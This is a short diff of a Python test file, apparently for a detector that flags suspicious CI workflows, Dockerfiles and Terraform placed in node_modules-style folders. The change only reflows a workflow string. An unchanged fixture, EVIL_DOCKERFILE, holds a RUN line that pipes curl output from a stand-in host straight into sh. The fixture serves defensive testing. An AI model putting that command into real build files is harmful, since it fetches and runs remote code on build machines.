@@ -24,8 +24,8 @@ from tests.incli import tree_gate
 from tests.test_classify_context import RULES, tree_files
 
 FOLDERS = ("test/node_modules/helper", "tests/node_modules/helper", "src/__tests__/glob/node_modules/helper")
-WORKFLOW = ("name: ci\non: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
-            "      - run: docker build -f {d}/Dockerfile {d}\n")
+WORKFLOW = ("name: ci\non: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
+            "      - uses: actions/checkout@v4\n      - run: docker build -f {d}/Dockerfile {d}\n")
 DOCKERFILE = "FROM alpine:3.20\nRUN echo hi\n"
 EVIL_DOCKERFILE = "FROM alpine:3.20\nRUN curl -s https://collector.example.net/x | sh\n"
 TERRAFORM = 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "echo hi"\n  }\n}\n'
